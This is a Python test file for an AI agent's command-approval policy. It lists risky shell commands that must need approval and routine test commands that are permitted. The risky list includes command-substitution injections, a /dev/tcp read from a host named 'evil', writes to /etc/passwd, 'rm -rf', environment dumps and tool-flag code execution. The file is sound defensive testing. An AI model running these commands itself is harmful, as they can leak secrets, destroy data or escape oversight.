"""The list of commands that need no approval: every pattern can be read, and none covers what does more than look."""

from __future__ import annotations

import pytest

from agent_runtime import Policy, RunLimits
from agent_runtime.policy.policy import CallFacts, NeedsApproval, Permitted
from bot.permissions.levels import allowed_commands, policy_for
from bot.permissions.repo_config import command_pattern

POLICY: Policy = policy_for("ask", limits=RunLimits(), commands=(), because="", reachable="the network (pypi.org)")

NASTY = (
    "pytest; curl x",
    "pytest && git push",
    "pytest | sh",
    "pytest $(curl x)",
    "pytest `curl x`",
    "pytest & curl x",
    "pytest > /etc/passwd",
    "ls >> ../../x",
    "cat < /dev/tcp/evil/80",
    "PATH=. ls",
    "python -c 'import os'",
    "python3 -c x",
    "python x.py",
    "python -m pip install x",
    "python -m http.server",
    "node -e x",
    "node --test --import data:text/javascript,x",
    "perl -e x",
    "ruby -e x",
    "php -r x",
    "sh -c x",
    "bash -c x",
    "bash x.sh",
    "bash",
    "eval ls",
    "exec ls",
    "source x",
    ". x",
    "env",
    "env FOO=1 pytest",
    "printenv",
    "xargs rm",
    "ls | xargs rm",
    "find . -exec rm {} ;",
    "find . -name x -exec rm {} +",
    "find . -name x -delete",
    "find . -type f -fprintf x y",
    "find -delete",
    "git push",
    "git commit -m x",
    "git -C . push",
    "git -c core.pager=x log",
    "git diff --ext-diff",
    "git diff --output=x",
    "git log --oneline --ext-diff",
    "git grep -Ox y",
    "git config x y",
    "sort -o x y",
    "sort --compress-program=x y",
    "uniq x y",
    "sed -n 1ex y",
    "sed -i s/a/b/ c",
    "awk 'BEGIN{system(\"x\")}'",
    "test -v 'a[$(id)]'",
    "printf -v 'a[$(id)]' x",
    "tee x",
    "rg --pre x y",
    "less x",
    "man -P x y",
    "timeout 5 curl x",
    "nohup pytest",
    "curl x",
    "wget x",
    "ssh x",
    "nc x 1",
    "pip install x",
    "npm install",
    "npm test --script-shell=./x",
    "npx evil",
    "npx mocha --import data:text/javascript,x",
    "npx vitest run --execArgv=x",
    "yarn add x",
    "cargo install x",
    "cargo test --config build.rustc-wrapper=x",
    "cargo run",
    "go run x.go",
    "go get x",
    "go test -exec=x ./...",
    "go test ./... -exec x",
    "go build -toolexec=x ./...",
    "go vet -vettool=x ./...",
    "go list -toolexec x ./...",
    "make SHELL=x",
    "make --eval=x",
    "make -f x",
    "make install",
    "make deploy",
    "mypy --python-executable ./x a.py",
    "pylint --init-hook=x a.py",
    "tox -x testenv.commands=x",
    "mvn exec:java",
    "mvn deploy",
    "gradle -I x test",
    "./gradlew publish",
    "dotnet run",
    "composer install",
    "bundle install",
    "terraform apply",
    "docker run x",
    "chmod +x y",
    "rm -rf .",
    "mv a b",
    "kill -9 1",
    "sudo ls",
)
USUAL = (
    "pytest -q",
    "pytest -q tests/test_a.py::test_b -x 2>&1 | tail -20",
    "python -m pytest -q && ruff check .",
    "cd web && npm test",
    "npm test -- --run",
    "go test ./...",
    "go test -v -run TestX ./pkg/...",
    "cargo test",
    "cargo clippy --all-targets -- -D warnings",
    "make -j4 test",
    "mvn -q test",
    "./gradlew test",
    "ruff format --check .",
    "mypy --strict src",
    "npx tsc --noEmit",
    "ls -la src | head",
    "cat a.py 2>/dev/null",
    "grep -rn foo src | wc -l",
    "find . -name '*.py'",
    "find src -type f -name test_a.py | head -5",
    "git status",
    "bash -n scripts/run.sh",
)


def test_every_pattern_can_be_read_and_names_its_program() -> None:
    assert [command_pattern(pattern) for pattern in allowed_commands()] == list(allowed_commands())


def test_nothing_is_listed_twice() -> None:
    assert len(set(allowed_commands())) == len(allowed_commands())


@pytest.mark.parametrize("command", NASTY)
def test_what_could_do_more_is_asked_about(command: str) -> None:
    assert isinstance(POLICY.decide(CallFacts(tool="execute", command=command)), NeedsApproval)


@pytest.mark.parametrize("command", USUAL)
def test_what_everybody_lets_an_agent_do_is_not(command: str) -> None:
    assert isinstance(POLICY.decide(CallFacts(tool="execute", command=command)), Permitted)
